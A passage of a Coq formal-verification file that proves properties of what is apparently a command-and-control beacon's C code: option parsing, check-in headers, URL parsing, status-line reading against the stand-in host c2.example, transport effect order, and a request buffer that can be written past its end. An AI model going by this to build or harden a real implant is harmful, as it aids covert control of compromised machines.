    main_config (prog :: url :: options) s = Some config
    /\ (forall next rest,
          options = lit "--verify-ssl" :: next :: rest ->
          verify_ssl config = 1)
    /\ (~ In (lit "--verify-ssl") (removelast options) ->
        verify_ssl config = 0)
    /\ (forall opt rest,
          options = opt :: lit "--verify-ssl" :: rest ->
          opt <> lit "--verify-ssl" ->
          ~ In (lit "--verify-ssl") (removelast rest) ->
          verify_ssl config = 0).
Proof.
  unfold main_config.
  set (c0 := mk_config (strncpy url 511) [] USER_AGENT 60 10 0 []).
  eexists. split; [reflexivity |].
  assert (Hv : forall c, verify_ssl
                 (if strlen (beacon_id c) =? 0
                  then mk_config (server_url c) (uuid s) (user_agent c)
                         (sleep_interval c) (jitter_percent c)
                         (verify_ssl c) (proxy_url c)
                  else c) = verify_ssl c).
  { intros c. destruct (strlen (beacon_id c) =? 0); reflexivity. }
  rewrite Hv. split; [| split].
  - intros next rest ->.
    change (parse_options (lit "--verify-ssl" :: next :: rest) c0)
      with (parse_options (next :: rest)
              (mk_config (strncpy url 511) [] USER_AGENT 60 10 1 [])).
    apply parse_options_verify_kept. reflexivity.
  - intros Hnot.
    rewrite (parse_options_verify_unchanged (length options)) by auto.
    reflexivity.
  - intros opt rest -> Hopt Hnot. unfold c0.
    rewrite parse_options_step, (streq_neq _ _ Hopt).
    repeat match goal with
           | |- context [if streq opt ?b then _ else _] =>
               destruct (streq opt b)
           end;
      rewrite (parse_options_verify_unchanged (length rest)) by auto;
      reflexivity.
Qed.

Lemma verify_flag_in_value_position :
  exists config,
    main_config [lit "beacon"; lit "https://c2.example/api";
                 lit "--sleep"; lit "--verify-ssl"; lit "30"]
                (sample_startup NetConnectError)
    = Some config
    /\ verify_ssl config = 0 /\ sleep_interval config = 0.
Proof. eexists. vm_compute. repeat split; reflexivity. Qed.

(** ** The header block *)

(** X11. For the configuration [main] builds from any command line, the
    header block of a check-in is not cut: it has the three lines
    User-Agent, Content-Type and X-Beacon-ID with the configured values,
    in at most 352 bytes. *)
Theorem checkin_headers_are_whole
    (argv : list cstring) (s : startup_env) (config : beacon_config_t) :
  main_config argv s = Some config ->
  strlen (uuid s) < BEACON_ID_LEN ->
  checkin_headers config
  = lit "User-Agent: " ++ user_agent config ++ CRLF
    ++ lit "Content-Type: application/json" ++ CRLF
    ++ lit "X-Beacon-ID: " ++ beacon_id config ++ CRLF
  /\ strlen (checkin_headers config) <= 352.
Proof.
  intros Hm Hu.
  destruct (main_config_fits argv s config Hm Hu) as (_ & Hid & Hua & _).
  unfold checkin_headers, snprintf.
  set (text := lit "User-Agent: " ++ user_agent config ++ CRLF
               ++ lit "Content-Type: application/json" ++ CRLF
               ++ lit "X-Beacon-ID: " ++ beacon_id config ++ CRLF).
  assert (Hlen : strlen text
                 = 61 + strlen (user_agent config) + strlen (beacon_id config)).
  { unfold text, strlen. repeat (rewrite ?length_app, ?length_cons). cbn. lia. }
  rewrite take_ge by (unfold strlen, BEACON_ID_LEN in *; lia).
  split; [reflexivity |]. unfold BEACON_ID_LEN in *. lia.
Qed.

Lemma checkin_headers_are_whole_witness :
  exists config,
    main_config [lit "beacon"; lit "http://c2.example/api"]
                (sample_startup NetConnectError) = Some config
    /\ strlen (uuid (sample_startup NetConnectError)) < BEACON_ID_LEN
    /\ strlen (checkin_headers config) <= 352.
Proof.
  eexists. split; [reflexivity |]. split; [vm_compute; reflexivity |].
  apply (checkin_headers_are_whole
           [lit "beacon"; lit "http://c2.example/api"]
           (sample_startup NetConnectError)); [reflexivity |].
  vm_compute. reflexivity.
Defined.

(** ** The parts of a URL *)

Lemma ascii_eqb_sym (a b : ascii) : Ascii.eqb a b = Ascii.eqb b a.
Proof.
  destruct (Ascii.eqb_spec a b) as [-> | Hne].
  - symmetry. apply Ascii.eqb_refl.
  - symmetry. apply Ascii.eqb_neq. congruence.
Qed.

Lemma strchr_app (c : ascii) (a : cstring) : forall b,
  has_char c a = false ->
  strchr (a ++ b) c
  = match strchr b c with
    | Some i => Some (length a + i)%nat
    | None => None
    end.
Proof.
  unfold has_char.
  induction a as [| x a IH]; intros b Ha; cbn.
  - destruct (strchr b c); reflexivity.
  - cbn in Ha. apply orb_false_elim in Ha as [Hx Ha].
    rewrite ascii_eqb_sym, Hx, (IH b Ha).
    destruct (strchr b c); reflexivity.
Qed.

Lemma strchr_absent (c : ascii) (s : cstring) :
  has_char c s = false -> strchr s c = None.
Proof.
  intros Hs. pose proof (strchr_app c s [] Hs) as H.
  rewrite app_nil_r in H. exact H.
Qed.

Lemma strchr_found (c : ascii) (s : cstring) : forall i,
  strchr s c = Some i ->
  has_char c (take i s) = false /\ drop i s = c :: drop (S i) s.
Proof.
  induction s as [| x s IH]; intros i H; cbn in H; [discriminate |].
  destruct (Ascii.eqb_spec x c) as [-> | Hne].
  - injection H as <-. split; reflexivity.
  - destruct (strchr s c) as [k |]; [| discriminate].
    injection H as <-. destruct (IH k eq_refl) as [H1 H2].
    split; [| exact H2].
    unfold has_char in *. cbn. rewrite H1, orb_false_r.
    apply Ascii.eqb_neq. congruence.
Qed.

Lemma has_char_take c (s : cstring) n :
  has_char c s = false -> has_char c (take n s) = false.
Proof.
  unfold has_char.
  revert n. induction s as [| x s IH]; intros [| n] H; try reflexivity.
  cbn in *. apply orb_false_elim in H as [Hx Hs].
  rewrite Hx, (IH n Hs). reflexivity.
Qed.

(** The start of the host, the default port and the TLS flag that
    [parse_url] takes from the scheme. *)
Lemma parse_url_scheme (tls : bool) (rest : cstring) :
  (if starts_with (lit "http://") (scheme tls ++ rest)
   then (drop 7 (scheme tls ++ rest), 80, 0)
   else if starts_with (lit "https://") (scheme tls ++ rest)
        then (drop 8 (scheme tls ++ rest), 443, 1)
        else (scheme tls ++ rest, 80, 0))
  = (rest, if tls then 443 else 80, if tls then 1 else 0).
Proof.
  destruct tls; unfold scheme.
  - change (starts_with (lit "http://") (lit "https://" ++ rest)) with false.
    rewrite starts_with_app. cbn iota.
    change 8%nat with (length (lit "https://")).
    rewrite drop_app_length. reflexivity.
  - rewrite starts_with_app.
    change 7%nat with (length (lit "http://")).
    rewrite drop_app_length. reflexivity.
Qed.

Lemma parse_url_in_bounds_intro url host port path use_ssl :
  parse_url url = (host, port, path, use_ssl) ->
  strlen host < 256 -> strlen path < 512 ->
  parse_url_in_bounds url = true.
Proof.
  intros Hp Hh Hl. unfold parse_url_in_bounds. rewrite Hp.
  apply andb_true_intro. split; apply Z.ltb_lt; assumption.
Qed.

(** X12. A URL of a scheme, a host without slash and colon that fits
    [hostname[256]], and a path that fits [path[512]] is taken apart
    into that host, the port of the scheme (80, or 443 with the TLS flag
    set) and that path, with every write inside the arrays; without a
    path the path is a single slash.  A colon inside the path is no
    port. *)
Theorem parse_url_host_and_path
    (tls : bool) (host path_rest : cstring) :
  has_char SLASH host = false -> has_char COLON host = false ->
  strlen host < 256 -> strlen (SLASH :: path_rest) < 512 ->
  (parse_url (scheme tls ++ host)
   = (host, if tls then 443 else 80, lit "/", if tls then 1 else 0)
   /\ parse_url_in_bounds (scheme tls ++ host) = true)
  /\ (parse_url (scheme tls ++ host ++ SLASH :: path_rest)
      = (host, if tls then 443 else 80, SLASH :: path_rest,
         if tls then 1 else 0)
      /\ parse_url_in_bounds (scheme tls ++ host ++ SLASH :: path_rest) = true).
Proof.
  intros Hs Hc Hh Hp.
  assert (H1 : parse_url (scheme tls ++ host)
               = (host, if tls then 443 else 80, lit "/",
                  if tls then 1 else 0)).
  { unfold parse_url; rewrite parse_url_scheme. fold SLASH COLON.
    rewrite (strchr_absent SLASH host Hs), (strchr_absent COLON host Hc).
    rewrite firstn_all. reflexivity. }
  assert (H2 : parse_url (scheme tls ++ host ++ SLASH :: path_rest)
               = (host, if tls then 443 else 80, SLASH :: path_rest,
                  if tls then 1 else 0)).
  { unfold parse_url; rewrite parse_url_scheme. fold SLASH COLON.
    rewrite (strchr_app SLASH host _ Hs), (strchr_app COLON host _ Hc).
    cbn [strchr]. rewrite Ascii.eqb_refl.
    change (Ascii.eqb SLASH COLON) with false. cbn iota.
    rewrite !Nat.add_0_r.
    destruct (strchr path_rest COLON) as [i |].
    + destruct (Nat.ltb_spec (length host + S i) (length host)); [lia |].
      rewrite take_app_length, drop_app_length. reflexivity.
    + rewrite take_app_length, drop_app_length. reflexivity. }
  split; (split; [assumption |]).
  - apply (parse_url_in_bounds_intro _ _ _ _ _ H1 Hh). reflexivity.
  - apply (parse_url_in_bounds_intro _ _ _ _ _ H2 Hh Hp).
Qed.

Lemma parse_url_host_and_path_witness :
  (has_char SLASH (lit "c2.example") = false
   /\ strlen (lit "c2.example") < 256)
  /\ parse_url (lit "https://c2.example/api/v1:x")
     = (lit "c2.example", 443, lit "/api/v1:x", 1)
  /\ parse_url_in_bounds (lit "https://c2.example/api/v1:x") = true.
Proof.
  split; [split; reflexivity |].
  apply (parse_url_host_and_path true (lit "c2.example") (lit "api/v1:x"));
    reflexivity.
Defined.

Lemma drop_past (a : cstring) (c : ascii) (b : cstring) :
  drop (S (length a)) (a ++ c :: b) = b.
Proof.
  replace (S (length a)) with (length a + 1)%nat by lia.
  rewrite drop_app_add. reflexivity.
Qed.

Lemma has_char_number chars (c : ascii) :
  forallb is_number_char chars = true ->
  is_number_char c = false -> has_char c chars = false.
Proof.
  unfold has_char.
  induction chars as [| x chars IH]; intros H Hc; [reflexivity |].
  cbn in *. apply andb_prop in H as [Hx Hr].
  rewrite (IH Hr Hc), orb_false_r.
  apply Ascii.eqb_neq. intros ->. congruence.
Qed.

(** X13. A port written behind the host is read back: the URL of a
    scheme, a host without slash and colon that fits [hostname[256]], a
    colon, an [int] as ["%d"] prints it and a path that fits [path[512]]
    (or nothing) is taken apart into that host, that number as the port,
    and that path (or a single slash), with the TLS flag of the scheme. *)
Theorem parse_url_port_round_trip
    (tls : bool) (host path_rest : cstring) (port : Z) :
  has_char SLASH host = false -> has_char COLON host = false ->
  strlen host < 256 -> strlen (SLASH :: path_rest) < 512 ->
  -2147483648 <= port <= 2147483647 ->
  (parse_url (scheme tls ++ host ++ COLON :: itoa port)
   = (host, port, lit "/", if tls then 1 else 0)
   /\ parse_url_in_bounds (scheme tls ++ host ++ COLON :: itoa port) = true)
  /\ (parse_url
        (scheme tls ++ host ++ COLON :: itoa port ++ SLASH :: path_rest)
      = (host, port, SLASH :: path_rest, if tls then 1 else 0)
      /\ parse_url_in_bounds
           (scheme tls ++ host ++ COLON :: itoa port ++ SLASH :: path_rest)
         = true).
Proof.
  intros Hs Hc Hh Hp Hport.
  pose proof (itoa_number_chars port) as Hn.
  assert (Hns : has_char SLASH (itoa port) = false)
    by (apply has_char_number; [exact Hn | reflexivity]).
  enough (H : parse_url (scheme tls ++ host ++ COLON :: itoa port)
              = (host, port, lit "/", if tls then 1 else 0)
              /\ parse_url (scheme tls ++ host ++ COLON :: itoa port
                            ++ SLASH :: path_rest)
                 = (host, port, SLASH :: path_rest, if tls then 1 else 0)).
  { destruct H as [H1 H2]. split; (split; [assumption |]).
    - apply (parse_url_in_bounds_intro _ _ _ _ _ H1 Hh). reflexivity.
    - apply (parse_url_in_bounds_intro _ _ _ _ _ H2 Hh Hp). }
  split; unfold parse_url; rewrite parse_url_scheme; fold SLASH COLON.
  - rewrite (strchr_app SLASH host _ Hs), (strchr_app COLON host _ Hc).
    cbn [strchr]. rewrite Ascii.eqb_refl.
    change (Ascii.eqb COLON SLASH) with false. cbn iota.
    rewrite (strchr_absent SLASH (itoa port) Hns).
    rewrite Nat.add_0_r, take_app_length.
    rewrite drop_past.
    pose proof (atoi_itoa port [] eq_refl Hport) as Ha.
    rewrite app_nil_r in Ha. rewrite Ha. reflexivity.
  - rewrite (strchr_app SLASH host _ Hs), (strchr_app COLON host _ Hc).
    cbn [strchr]. rewrite Ascii.eqb_refl.
    change (Ascii.eqb COLON SLASH) with false. cbn iota.
    rewrite (strchr_app SLASH (itoa port) _ Hns).
    cbn [strchr]. rewrite Ascii.eqb_refl.
    rewrite !Nat.add_0_r.
    destruct (Nat.ltb_spec (length host) (length host + S (length (itoa port))));
      [| lia].
    rewrite take_app_length, drop_past.
    rewrite atoi_itoa by (reflexivity || exact Hport).
    replace (drop (length host + S (length (itoa port)))
               (host ++ COLON :: itoa port ++ SLASH :: path_rest))
      with (SLASH :: path_rest); [reflexivity |].
    rewrite drop_app_add. cbn [drop]. rewrite drop_app_length. reflexivity.
Qed.

Lemma parse_url_port_round_trip_witness :
  (has_char SLASH (lit "c2.example") = false
   /\ strlen (lit "c2.example") < 256 /\ -2147483648 <= 8443 <= 2147483647)
  /\ parse_url (lit "http://c2.example:8443/api")
     = (lit "c2.example", 8443, lit "/api", 0)
  /\ parse_url_in_bounds (lit "http://c2.example:8443/api") = true.
Proof.
  split; [repeat split; (reflexivity || lia || discriminate) |].
  apply (parse_url_port_round_trip false (lit "c2.example") (lit "api") 8443);
    (reflexivity || lia).
Defined.

Lemma starts_with_split p : forall s,
  starts_with p s = true -> s = p ++ drop (length p) s.
Proof.
  induction p as [| x p IH]; intros [| y s] H; cbn in H;
    try discriminate; try reflexivity.
  apply andb_prop in H as [Hx Hs]. apply Ascii.eqb_eq in Hx. subst y.
  cbn [length drop app]. rewrite <- (IH s Hs). reflexivity.
Qed.

Lemma http_is_not_https url :
  starts_with (lit "http://") url = true ->
  starts_with (lit "https://") url = false.
Proof.
  intros E1. rewrite (starts_with_split _ _ E1). reflexivity.
Qed.

(** The parts [parse_url] copies: the host holds neither a slash nor a
    colon, the path begins with a slash. *)
Lemma parse_url_parts (url : cstring) :
  let '(host, port, path, use_ssl) := parse_url url in
  has_char SLASH host = false
  /\ has_char COLON host = false
  /\ starts_with [SLASH] path = true
  /\ use_ssl = (if starts_with (lit "https://") url then 1 else 0).
Proof.
  unfold parse_url.
  assert (Hscheme :
    exists start port0,
      (if starts_with (lit "http://") url then (drop 7 url, 80, 0)
       else if starts_with (lit "https://") url then (drop 8 url, 443, 1)
            else (url, 80, 0))
      = (start, port0, if starts_with (lit "https://") url then 1 else 0)).
  { destruct (starts_with (lit "http://") url) eqn:E1.
    - rewrite (http_is_not_https url E1). eauto.
    - destruct (starts_with (lit "https://") url); eauto. }
  destruct Hscheme as (start & port0 & ->).
  fold SLASH COLON.
  destruct (strchr start SLASH) as [q |] eqn:Eq;
    destruct (strchr start COLON) as [p |] eqn:Ep.
  - destruct (strchr_found _ _ _ Eq) as [Hq1 Hq2].
    destruct (strchr_found _ _ _ Ep) as [Hp1 Hp2].
    destruct (Nat.ltb_spec p q) as [Hlt | Hge].
    + repeat split; auto.
      * replace (take p start) with (take p (take q start))
          by (rewrite take_take; f_equal; lia).
        apply has_char_take, Hq1.
      * rewrite Hq2. cbn. rewrite Ascii.eqb_refl. reflexivity.
    + repeat split; auto.
      * replace (take q start) with (take q (take p start))
          by (rewrite take_take; f_equal; lia).
        apply has_char_take, Hp1.
      * rewrite Hq2. cbn. rewrite Ascii.eqb_refl. reflexivity.
  - destruct (strchr_found _ _ _ Eq) as [Hq1 Hq2].
    repeat split; auto.
    + assert (Hc : has_char COLON start = false).
      { destruct (has_char COLON start) eqn:E; [| reflexivity].
        exfalso. clear - Ep E.
        induction start as [| x s IH]; [discriminate |].
        cbn in Ep, E. rewrite ascii_eqb_sym in E.
        destruct (Ascii.eqb x COLON); [discriminate |].
        destruct (strchr s COLON); [discriminate |]. auto. }
      apply has_char_take, Hc.
    + rewrite Hq2. cbn. rewrite Ascii.eqb_refl. reflexivity.
  - destruct (strchr_found _ _ _ Ep) as [Hp1 Hp2].
    repeat split; auto.
    assert (Hs : has_char SLASH start = false).
    { destruct (has_char SLASH start) eqn:E; [| reflexivity].
      exfalso. clear - Eq E.
      induction start as [| x s IH]; [discriminate |].
      cbn in Eq, E. rewrite ascii_eqb_sym in E.
      destruct (Ascii.eqb x SLASH); [discriminate |].
      destruct (strchr s SLASH); [discriminate |]. auto. }
    apply has_char_take, Hs.
  - assert (Hnone : forall c, strchr start c = None -> has_char c start = false).
    { intros c Hn. destruct (has_char c start) eqn:E; [| reflexivity].
      exfalso. clear - Hn E.
      induction start as [| x s IH]; [discriminate |].
      cbn in Hn, E. rewrite ascii_eqb_sym in E.
      destruct (Ascii.eqb x c); [discriminate |].
      destruct (strchr s c); [discriminate |]. auto. }
    rewrite firstn_all. repeat split; auto.
Qed.

Lemma parse_url_port_range (url : cstring) :
  -2147483648 <= snd (fst (fst (parse_url url))) <= 2147483647.
Proof.
  unfold parse_url.
  destruct (if starts_with (lit "http://") url then (drop 7 url, 80, 0)
            else if starts_with (lit "https://") url then (drop 8 url, 443, 1)
                 else (url, 80, 0)) as [[start port0] use_ssl] eqn:E.
  assert (Hp0 : -2147483648 <= port0 <= 2147483647).
  { destruct (starts_with (lit "http://") url);
      [| destruct (starts_with (lit "https://") url)];
      injection E as _ <- _; lia. }
  destruct (strchr start (ascii_of_nat 58)) as [p |];
    destruct (strchr start (ascii_of_nat 47)) as [q |];
    try destruct (p <? q)%nat; cbn [fst snd];
    try exact Hp0; apply atoi_range.
Qed.

(** What [parse_url] hands to [http_request] when its copies stay inside
    the arrays. *)
Lemma parse_url_checked (url : cstring) :
  parse_url_in_bounds url = true ->
  let '(host, port, path, use_ssl) := parse_url url in
  has_char SLASH host = false
  /\ has_char COLON host = false
  /\ strlen host <= 255
  /\ starts_with [SLASH] path = true
  /\ 1 <= strlen path <= 511
  /\ -2147483648 <= port <= 2147483647
  /\ use_ssl = (if starts_with (lit "https://") url then 1 else 0).
Proof.
  intros Hb. unfold parse_url_in_bounds in Hb.
  pose proof (parse_url_parts url) as Hparts.
  pose proof (parse_url_port_range url) as Hport.
  destruct (parse_url url) as [[[host port] path] use_ssl].
  cbn [fst snd] in Hport.
  destruct Hparts as (Hs & Hc & Hp & Hssl).
  apply andb_prop in Hb as [Hh Hl]. apply Z.ltb_lt in Hh, Hl.
  repeat split; try assumption; try lia.
  destruct path; [discriminate Hp |]. unfold strlen. cbn [length]. lia.
Qed.

(** X14. For every URL, well-formed or not, whose host and path
    [parse_url] copies without leaving [hostname[256]] and [path[512]]:
    the host holds neither a slash nor a colon and has at most 255
    bytes, the path begins with a slash and has at most 511 bytes, the
    port is an [int], and the TLS flag is 1 exactly for a URL that
    begins with [https://]. *)
Theorem parse_url_always (url : cstring) :
  parse_url_in_bounds url = true ->
  let '(host, port, path, use_ssl) := parse_url url in
  has_char SLASH host = false
  /\ has_char COLON host = false
  /\ strlen host <= 255
  /\ starts_with [SLASH] path = true
  /\ 1 <= strlen path <= 511
  /\ -2147483648 <= port <= 2147483647
  /\ use_ssl = (if starts_with (lit "https://") url then 1 else 0).
Proof. exact (parse_url_checked url). Qed.

Lemma parse_url_always_witness :
  parse_url_in_bounds (lit "c2.example:99999999999/x:y") = true
  /\ (let '(host, port, path, use_ssl) :=
        parse_url (lit "c2.example:99999999999/x:y") in
      has_char COLON host = false /\ -2147483648 <= port <= 2147483647).
Proof.
  split; [reflexivity |].
  pose proof (parse_url_always (lit "c2.example:99999999999/x:y") eq_refl)
    as H.
  destruct (parse_url (lit "c2.example:99999999999/x:y"))
    as [[[host port] path] use_ssl].
  destruct H as (_ & Hc & _ & _ & _ & Hp & _).
  split; assumption.
Defined.

(** ** The status line *)

Lemma c_str_app_no_nul a b : no_nul a = true -> c_str (a ++ b) = a ++ c_str b.
Proof.
  induction a as [| c a IH]; intros H; [reflexivity |].
  cbn in H. apply andb_prop in H as [Hc Ha]. apply negb_true_iff in Hc.
  cbn. rewrite Hc, (IH Ha). reflexivity.
Qed.

Lemma strstr_at_start hay needle :
  starts_with needle hay = true -> strstr hay needle = Some hay.
Proof. intros H. destruct hay; cbn; rewrite H; reflexivity. Qed.

Lemma number_chars_no_nul chars :
  forallb is_number_char chars = true -> no_nul chars = true.
Proof.
  unfold no_nul.
  induction chars as [| c chars IH]; intros H; [reflexivity |].
  cbn [forallb] in *. apply andb_prop in H as [Hc Hr].
  destruct (number_char_plain c Hc) as (Hn & _ & _).
  rewrite Hn, (IH Hr). reflexivity.
Qed.

Lemma ends_number_c_str tail :
  ends_number tail = true -> ends_number (c_str tail) = true.
Proof.
  destruct tail as [| c tail]; [reflexivity |].
  cbn. destruct (Ascii.eqb c NUL); [reflexivity | auto].
Qed.

Lemma parse_status_itoa n tail :
  ends_number tail = true -> LONG_MIN <= n <= LONG_MAX ->
  parse_status (lit "HTTP/1.1 " ++ itoa n ++ tail) = wrap_int n.
Proof.
  intros Ht Hn. unfold parse_status.
  rewrite (c_str_app_no_nul (lit "HTTP/1.1 ")) by reflexivity.
  rewrite (c_str_app_no_nul (itoa n))
    by (apply number_chars_no_nul, itoa_number_chars).
  rewrite strstr_at_start by apply starts_with_app.
  change 9%nat with (length (lit "HTTP/1.1 ")).
  rewrite drop_app_length.
  apply atoi_itoa_long; [apply ends_number_c_str, Ht | exact Hn].
Qed.

(** X15. The status of a reply is read back from its status line: for a
    reply that begins with [HTTP/1.1], a blank and an [int], followed by
    anything but a digit, the transport reports that number, and the
    check-in returns 0 exactly when the number is 200, whatever the
    scheme and the request.  A number beyond the [int] range that a
    [long] still holds is reported reduced to its low 32 bits, so that
    4294967496 counts as 200. *)
Theorem status_line_round_trip
    (decode : cstring -> list command_t) (config : beacon_config_t)
    (sysinfo : option system_info_t)
    (results : option (list command_result_t)) (result_count n : Z)
    (tail : list ascii) :
  ends_number tail = true -> LONG_MIN <= n <= LONG_MAX ->
  parse_status (lit "HTTP/1.1 " ++ itoa n ++ tail) = wrap_int n
  /\ fst (fst (checkin decode config sysinfo results result_count
                 (NetReply (lit "HTTP/1.1 " ++ itoa n ++ tail))))
     = (if wrap_int n =? 200 then 0 else -1)
  /\ (-2147483648 <= n <= 2147483647 ->
      parse_status (lit "HTTP/1.1 " ++ itoa n ++ tail) = n
      /\ fst (fst (checkin decode config sysinfo results result_count
                     (NetReply (lit "HTTP/1.1 " ++ itoa n ++ tail))))
         = (if n =? 200 then 0 else -1)).
Proof.
  intros Ht Hn. pose proof (parse_status_itoa n tail Ht Hn) as Hs.
  assert (Hrc : fst (fst (checkin decode config sysinfo results result_count
                            (NetReply (lit "HTTP/1.1 " ++ itoa n ++ tail))))
                = (if wrap_int n =? 200 then 0 else -1)).
  { rewrite checkin_reply, Hs. destruct (wrap_int n =? 200); reflexivity. }
  split; [exact Hs |]. split; [exact Hrc |].
  intros Hint. rewrite Hs, Hrc, (wrap_int_small n Hint). split; reflexivity.
Qed.

Lemma status_line_round_trip_witness :
  (ends_number (lit " OK") = true /\ LONG_MIN <= 4294967496 <= LONG_MAX)
  /\ parse_status (lit "HTTP/1.1 " ++ itoa 4294967496 ++ lit " OK") = 200
  /\ fst (fst (checkin parse_commands_json
                 (sample_config "http://c2.example/api") None None 0
                 (NetReply (lit "HTTP/1.1 " ++ itoa 4294967496 ++ lit " OK"))))
     = 0.
Proof.
  assert (Hn : LONG_MIN <= 4294967496 <= LONG_MAX)
    by (unfold LONG_MIN, LONG_MAX; lia).
  split; [split; [reflexivity | exact Hn] |].
  destruct (status_line_round_trip parse_commands_json
              (sample_config "http://c2.example/api") None None 0 4294967496
              (lit " OK") eq_refl Hn) as (Hs & Hrc & _).
  split; [exact Hs | exact Hrc].
Defined.

(** X16. A reply in which the text [HTTP/1.1] followed by a blank does
    not occur (an empty reply, or one of another protocol version) is a
    failed check-in with no command, whatever status it names. *)
Theorem reply_without_status_line_fails
    (decode : cstring -> list command_t) (config : beacon_config_t)
    (sysinfo : option system_info_t)
    (results : option (list command_result_t)) (result_count : Z)
    (raw : list ascii) :
  strstr (c_str raw) (lit "HTTP/1.1 ") = None ->
  fst (checkin decode config sysinfo results result_count (NetReply raw))
  = (-1, []).
Proof.
  intros Hn. rewrite checkin_reply. unfold parse_status. rewrite Hn.
  reflexivity.
Qed.

Lemma reply_without_status_line_fails_witness :
  strstr (c_str (lit "HTTP/1.0 200 OK")) (lit "HTTP/1.1 ") = None
  /\ fst (checkin parse_commands_json (sample_config "http://c2.example/api")
            None None 0 (NetReply (lit "HTTP/1.0 200 OK")))
     = (-1, []).
Proof.
  split; [reflexivity |].
  apply (reply_without_status_line_fails parse_commands_json
           (sample_config "http://c2.example/api") None None 0
           (lit "HTTP/1.0 200 OK")).
  reflexivity.
Defined.

(** ** The transport *)

Lemma htons_range (port : Z) : 0 <= htons port <= 65535.
Proof. unfold htons. pose proof (Z.mod_pos_bound port 65536). lia. Qed.

(** X17. For a URL whose host and path fit the arrays of the function:
    the effects of a request come in the order resolve, connect, send,
    receive, each only after the ones before it; the name resolved is
    the host of the URL, of at most 255 bytes and without slash and
    colon, and the port connected to is the port of the URL reduced to
    16 bits.  The request returns 0 exactly when all four effects took
    place and -1 otherwise, and on -1 the response is left as it was:
    status 0 and no data. *)
Theorem http_request_effect_order
    (method url headers : cstring) (body : option cstring) (n : net_outcome) :
  parse_url_in_bounds url = true ->
  let '(host, port, path, _) := parse_url url in
  let '(request, request_len) := build_request method path host headers body in
  let '(rc, response, evs) := http_request method url headers body n in
  (exists (k : nat) (raw : list ascii),
     evs = take k [EvResolve host; EvConnect host (htons port);
                   EvSend (content request) request_len; EvRecv raw]
     /\ (k <= 4)%nat
     /\ (rc = 0 /\ k = 4%nat /\ data response = Some raw
         /\ status_code response = parse_status raw
         \/ rc = -1 /\ (k < 4)%nat /\ response = response_zero))
  /\ strlen host <= 255
  /\ has_char SLASH host = false /\ has_char COLON host = false
  /\ 0 <= htons port <= 65535.
Proof.
  intros Hb. pose proof (parse_url_checked url Hb) as Hparts. revert Hparts.
  unfold http_request.
  destruct (parse_url url) as [[[host port] path] ssl].
  intros (Hs & Hc & Hh & _).
  destruct (build_request method path host headers body) as [request len].
  assert (Hrest : strlen host <= 255
                  /\ has_char SLASH host = false
                  /\ has_char COLON host = false
                  /\ 0 <= htons port <= 65535)
    by (repeat split; try assumption; apply htons_range).
  destruct n as [| | | | raw]; (split; [| exact Hrest]).
  - exists 0%nat, []. split; [reflexivity |]. split; [lia |].
    right. repeat split; lia.
  - exists 1%nat, []. split; [reflexivity |]. split; [lia |].
    right. repeat split; lia.
  - exists 2%nat, []. split; [reflexivity |]. split; [lia |].
    right. repeat split; lia.
  - exists 3%nat, []. split; [reflexivity |]. split; [lia |].
    right. repeat split; lia.
  - exists 4%nat, raw. split; [reflexivity |]. split; [lia |].
    left. repeat split.
Qed.

Lemma http_request_effect_order_witness :
  parse_url_in_bounds (lit "http://c2.example:65616/api") = true
  /\ (let '(host, port, path, _) :=
        parse_url (lit "http://c2.example:65616/api") in
      port = 65616 /\ strlen host <= 255 /\ 0 <= htons port <= 65535)
  /\ snd (http_request (lit "GET") (lit "http://c2.example:65616/api") []
                       None NetConnectError)
     = [EvResolve (lit "c2.example"); EvConnect (lit "c2.example") 80].
Proof.
  split; [reflexivity |]. split; [| reflexivity].
  pose proof (http_request_effect_order (lit "GET")
                (lit "http://c2.example:65616/api") [] None NetConnectError
                eq_refl) as H.
  destruct (parse_url (lit "http://c2.example:65616/api"))
    as [[[host port] path] use_ssl] eqn:E.
  destruct (build_request (lit "GET") path host [] None) as [request len].
  destruct (http_request (lit "GET") (lit "http://c2.example:65616/api") []
                         None NetConnectError) as [[rc response] evs].
  destruct H as (_ & Hh & _ & _ & Hp).
  split; [| split; assumption].
  vm_compute in E. congruence.
Defined.

(** X18. The request array: the length passed to [send] is the length
    of the request line and headers plus that of the body, cut or not.
    When line and headers fit the array, no write leaves it and it holds
    the request cut to [MAX_BUFFER_SIZE - 1] bytes, so that the length
    passed to [send] exceeds the array for every longer request.  When
    they do not fit, a body is written behind the array. *)
Theorem build_request_bounds
    (method path host headers : cstring) (body : option cstring) :
  let head := request_head method path host headers in
  let '(request, request_len) := build_request method path host headers body in
  request_len
  = strlen head + match body with Some d => strlen d | None => 0 end
  /\ (strlen head <= MAX_BUFFER_SIZE ->
      overflow request = false
      /\ strlen (content request) = Z.min request_len (MAX_BUFFER_SIZE - 1))
  /\ (MAX_BUFFER_SIZE < strlen head -> body <> None ->
      overflow request = true).
Proof.
  intros head. unfold build_request. fold head.
  rewrite snprintf_at_start by reflexivity.
  assert (Hcut : strlen (snprintf MAX_BUFFER_SIZE head)
                 = Z.min (strlen head) (MAX_BUFFER_SIZE - 1)).
  { unfold snprintf, strlen, MAX_BUFFER_SIZE. rewrite length_take. lia. }
  destruct body as [d |].
  - unfold snprintf_at. cbn [content overflow].
    destruct (Z.ltb_spec (strlen head) MAX_BUFFER_SIZE) as [Hlt | Hge].
    + split; [reflexivity |]. split; [| lia].
      intros _. split; [reflexivity |]. cbn [content].
      unfold snprintf.
      rewrite (take_ge head) by (unfold strlen, MAX_BUFFER_SIZE in *; lia).
      rewrite take_strlen, strlen_app.
      unfold strlen, MAX_BUFFER_SIZE in *. rewrite length_take. lia.
    + destruct (Z.eqb_spec (strlen head) MAX_BUFFER_SIZE) as [Heq | Hne].
      * split; [reflexivity |]. split; [| lia].
        intros _. split; [reflexivity |]. cbn [content].
        pose proof (strlen_nonneg d). lia.
      * split; [reflexivity |]. split; [lia |].
        intros _ _. reflexivity.
  - split; [lia |]. split.
    + intros _. split; [reflexivity |]. cbn [content]. lia.
    + intros _ Hb. destruct (Hb eq_refl).
Qed.

(** ** The payload array *)

Lemma snprintf_bound cap (s : cstring) :
  0 < cap -> strlen (snprintf cap s) <= cap - 1.
Proof. intros Hc. unfold snprintf, strlen. rewrite length_take. lia. Qed.

Lemma snprintf_at_bound cap buf offset s :
  0 <= offset -> strlen (content buf) <= cap - 1 ->
  strlen (content (fst (snprintf_at cap buf offset s))) <= cap - 1.
Proof.
  intros Ho Hb. unfold snprintf_at.
  destruct (Z.ltb_spec offset cap); [| destruct (offset =? cap); exact Hb].
  cbn. rewrite strlen_app. unfold strlen in *. rewrite !length_take. lia.
Qed.

